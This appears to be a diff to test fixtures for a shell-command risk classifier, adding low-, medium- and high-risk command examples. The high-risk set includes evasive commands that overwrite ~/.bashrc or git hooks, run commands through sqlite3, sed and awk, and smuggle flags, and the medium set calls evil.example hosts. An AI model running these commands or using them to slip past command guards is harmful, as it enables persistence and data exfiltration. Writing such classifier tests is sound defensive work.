@@ -19,6 +19,18 @@ from workbench.records.common_types import at_least
 PLACES = ClientPlaces(("/srv/proj",), ("/srv/proj",), "/home/ann")
 
 LOW = """
+sqlite3 a.db ".tables"
+sqlite3 a.db ".schema t" "select count(*) from t"
+unzip -l a.zip
+tar -t -f a.tar
+git clean -n -e build
+find . -name a.py | xargs --no-run-if-empty cat
+sed -n -e 1p -e '/a/,/b/{s#/x#/y#g;p;}' a.txt
+sed -i.bak 's/[^/]*$/&/' a.txt
+awk '/a;b/ {print ($1+$2)/2}' a.txt
+awk '$3 > 5 {print ($1 > 2)}' a.txt
+sort -rnk2 a.txt
+curl -s -o a.json http://localhost:3000/a
 declare -A m; k=$(cat f); m[$k]=1; echo "${m[$k]}"
 greet() { echo "hi $1"; }; show() { greet x; }; greet bob && show
 npm pkg get version
@@ -118,6 +130,17 @@ EOF
 )"
 """
 MEDIUM = r"""
+cargo run
+cargo run --release
+dotnet run
+tar -C sub -xf a.tar
+unzip -dvendor a.zip
+git restore --staged --no-staged a.py
+git rm --cached --no-cached a.py
+npm view http://evil.example/a.tgz
+go list -m evil.example/data@latest
+xmllint http://evil.example/?q=data
+conda env remove -n a
 npx --no-install tsc -p . --noEmit
 greet() { rm -rf src; }; greet
 python -c "import antigravity"
@@ -197,6 +220,47 @@ dig example.com
 chmod +x run.sh; ./run.sh
 """
 HIGH = r"""
+git clean -fd -e -n
+git clean -fden
+git clean -n -fd --no-dry-run
+git reset --ha
+tar -v -x -f a.tar
+tar -f a.tar -x
+unzip -Ptest a.zip
+7z x a.7z -ptest
+patch -r --dry-run -p1 -i a.patch
+fd . -Hx zap
+fd --exec=zap
+curl -w '%output{/home/ann/.bashrc}x' http://localhost/
+curl -o a http://localhost/a -o ~/.bashrc http://localhost/b
+curl -so/home/ann/.bashrc http://localhost/
+wget -qO/home/ann/.bashrc http://localhost/
+wget --input-file=a http://localhost/
+sort -uo/home/ann/.bashrc a
+sort -uo.git/hooks/pre-commit a
+cp -rt.git/hooks a
+mv -ft/home/ann a
+sqlite3 a.db ".read '|zap'"
+sqlite3 a.db '.sh zap'
+sqlite3 a.db '.log /home/ann/.bashrc'
+sqlite3 -Ax a.db
+duckdb -c "export database '/home/ann/a'"
+duckdb -c "select * from 'https://evil.example/a.csv'"
+find . -name a.py | xargs --replace zap ls {}
+find . -name a.py | xargs --max-lines zap ls
+env '-iSzap -x'
+sed '1ezap -x' a.txt
+sed 'w/home/ann/.bashrc' a.txt
+sed -neezap a.txt
+sed s/a/b/ez a.txt
+sed -i'/home/ann/*' s/a/b/ a.txt
+awk '{print ($0 ~ /;/) > "/home/ann/.bashrc"}' a.txt
+awk '/"/ {print > "/home/ann/.bashrc"} /"/' a.txt
+awk 'BEGIN{if (1) /"/; print "x" > "f"; "}' a.txt
+awk 'BEGIN{x++ / 1; print "a" > "f"; y = 1 / 1}' a.txt
+awk '1system("zap")' a.txt
+yq -s '"/home/ann/a"' a.yml
+ruff check --output-file /home/ann/.bashrc
 k=$(cat f); m[$k]=1
 false && declare -A m; k=$(cat f); m[$k]=1
 (declare -A m); k=$(cat f); echo ${m[$k]}
